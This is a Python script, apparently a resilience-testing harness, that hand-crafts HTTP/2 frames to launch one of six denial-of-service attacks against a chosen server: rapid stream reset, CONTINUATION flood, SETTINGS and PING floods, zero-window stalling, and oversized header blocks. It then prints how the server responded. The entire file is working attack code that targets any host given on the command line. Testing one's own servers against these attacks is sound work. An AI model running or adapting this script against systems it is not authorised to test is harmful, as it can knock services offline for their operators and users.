"""HTTP/2 frames as an attacker sends them, written by hand. One attack per run; prints a JSON object of what the server
did. Bounded in count and time.

  h2_abuse.py HOST PORT AUTHORITY rapid-reset|continuation|settings|ping|zero-window|big-header [--path P]"""
import json
import socket
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
COUNT = 20000


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def text(s):
    b = s.encode()
    if len(b) < 127:
        return bytes([len(b)]) + b
    n, out = len(b) - 127, b"\x7f"
    while n >= 128:
        out += bytes([n % 128 + 128])
        n //= 128
    return out + bytes([n]) + b


def literal(name, value):
    return b"\0" + text(name) + text(value)


def head(authority, path="/", extra=()):
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path), *extra]
    return b"".join(literal(n, v) for n, v in fields)


class Connection:
    def __init__(self, host, port, settings=b""):
        self.s = socket.create_connection((host, port), 5)
        self.s.settimeout(20)
        self.seen, self.ended, self.buf = {}, None, b""
        self.goaway = None
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        try:
            self.s.sendall(data)
            return True
        except OSError as e:
            self.ended = type(e).__name__
            return False

    def frames(self):
        """Frames until the server ends the connection, or says nothing for the socket's timeout."""
        while True:
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                kind, flags, stream = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                payload, self.buf = self.buf[9:9 + n], self.buf[9 + n:]
                self.seen[kind] = self.seen.get(kind, 0) + 1
                if kind == GOAWAY:
                    self.goaway = int.from_bytes(payload[4:8], "big")
                yield kind, flags, stream, payload
            try:
                data = self.s.recv(65536)
            except OSError as e:
                self.ended = self.ended or type(e).__name__
                return
            if not data:
                self.ended = self.ended or "closed"
                return
            self.buf += data


def flood(c, make):
    for i in range(COUNT):
        if not c.send(make(i)):
            break
    for _ in c.frames():
        pass


def main():
    host, port, authority, what = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    path = sys.argv[sys.argv.index("--path") + 1] if "--path" in sys.argv else "/"
    if what == "zero-window":
        # Requests answered into a closed window: every stream stalls; the server must hold only bounded data and let go.
        c = Connection(host, port, struct.pack("!HI", 4, 0))
        for i in range(100):
            c.send(frame(HEADERS, 5, 2 * i + 1, head(authority, path)))
        c.s.settimeout(3)
    else:
        c = Connection(host, port)
    if what == "rapid-reset":
        flood(c, lambda i: frame(HEADERS, 5, 2 * i + 1, head(authority, path)) + frame(RST, 0, 2 * i + 1, struct.pack("!I", 8)))
    elif what == "continuation":
        block = literal("x-a", "b" * 1000)
        flood(c, lambda i: frame(HEADERS, 1, 1, head(authority, path)) if i == 0 else frame(CONTINUATION, 0, 1, block))
    elif what == "settings":
        flood(c, lambda i: frame(SETTINGS, 0, 0, struct.pack("!HI", 3, 100 + i % 2)))
    elif what == "ping":
        flood(c, lambda i: frame(PING, 0, 0, struct.pack("!Q", i)))
    elif what == "big-header":
        c.send(frame(HEADERS, 1, 1, head(authority, path)))
        for _ in range(9):
            c.send(frame(CONTINUATION, 0, 1, literal("x-a", "b" * 16000)))
        c.send(frame(CONTINUATION, 4, 1, literal("x-a", "b")))
        c.s.settimeout(3)
        for _ in c.frames():
            pass
    elif what == "zero-window":
        for _ in c.frames():
            pass
    else:
        sys.exit("unknown attack " + what)
    print(json.dumps({"ended": c.ended, "goaway": c.goaway, "frames": {str(k): v for k, v in c.seen.items()}}))


main()
